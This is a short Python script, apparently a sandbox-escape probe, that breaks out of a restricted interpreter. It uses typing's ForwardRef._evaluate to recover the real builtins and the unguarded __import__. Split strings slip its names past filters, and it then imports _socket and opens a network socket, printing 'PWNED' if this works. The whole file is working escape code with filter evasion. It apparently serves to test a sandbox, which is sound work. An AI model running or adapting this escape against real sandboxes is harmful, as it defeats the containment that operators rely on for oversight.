# socket: _socket imported from heapq's frame; an AF_INET socket
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["_soc" + "ket"], key=imp)
so = imp("_soc" + "ket")
try:
    s = ga(so, "soc" + "ket")(so.AF_INET, so.SOCK_STREAM)
    print(M, s)
except Exception as e:
    print("refused:", type(e).__name__, e)
